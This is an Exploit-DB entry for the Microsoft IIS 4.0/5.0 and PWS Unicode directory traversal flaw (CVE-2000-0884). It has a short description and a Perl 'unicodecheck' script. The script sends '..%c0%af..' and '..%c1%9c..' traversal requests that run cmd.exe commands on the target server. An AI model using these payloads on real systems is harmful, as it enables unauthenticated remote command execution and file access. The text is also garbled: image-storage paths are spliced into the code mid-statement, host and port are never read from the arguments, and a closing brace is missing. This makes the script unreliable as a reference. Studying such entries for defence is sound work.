Microsoft IIS 4.0/5.0 and PWS Extended Unicode Directory Traversal Vulnerability 2

ID EDB-ID:20299
Type exploitdb
Reporter Roelof Temmingh
Modified 2000-10-21T00:00:00


MS IIS 4.0/5.0 and PWS Extended Unicode Directory Traversal Vulnerability (2). CVE-2000-0884. Remote exploit for windows platform

Microsoft IIS 4.0 and 5.0 are both vulnerable to double dot "../" directory traversal exploitation if extended UNICODE character representations are used in substitution for "/" and "\".
Unauthenticated users may access any known file in the context of the IUSR_machinename account. The IUSR_machinename account is a member of the Everyone and Users groups by default, therefore, any file on the same logical drive as any web-accessible file that is accessible to these groups can be deleted, modified, or executed. Successful exploitation would yield the same privileges as a user who could successfully log onto the system to a remote user possessing no credentials whatsoever.
It has been discovered that a Windows 98 host running Microsoft Personal Web Server is also subject to this vulnerability. (March 18, 2001)
This is the vulnerability exploited by the Code Blue Worm.
**UPDATE**: It is believed that an aggressive worm may be in the wild that actively exploits this vulnerability.# Very simple PERL script to test a machine for Unicode vulnerability.
# Use port number with SSLproxy for testing SSL sites
# Usage: unicodecheck IP:port
# Only makes use of "Socket" library
# Roelof Temmingh 2000/10/21

use Socket;
# ---init
if ($#ARGV<0) {die "Usage: unicodecheck IP:port\n";}
print "Testing $host:$port : ";
$target = inet_aton($host);
# ---test method 1
my@results=sendraw("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\ HTTP/1.0\r\n\r\n");
foreach $line (@results){
 if ($line =~ /Directory/) {$flag=1;}}
# ---test method 2
my @results=sendraw("GET /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir+c:\ HTTP/1.0\r\n\r\n");
foreach $line (@results){
 if ($line =~ /Directory/) {$flag=1;}}
# ---result
if ($flag==1){print "Vulnerable\n";}
else{print "Safe\n";}
# --- Sendraw - thanx RFP
sub sendraw {   # this saves the whole transaction anyway
        my($pstr)=@_;
        socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp')||0) ||
                die("Socket problems\n");
        if(connect(S,pack"SnA4x8",2,$port,$target)){my @in;
                select(S);      $|=1;   print $pstr;
                while(<S>){ push @in,$_;}
                select(STDOUT); close(S); return @in;
        } else { die("Can't connect...\n"); }
#Spidermark: sensepostdata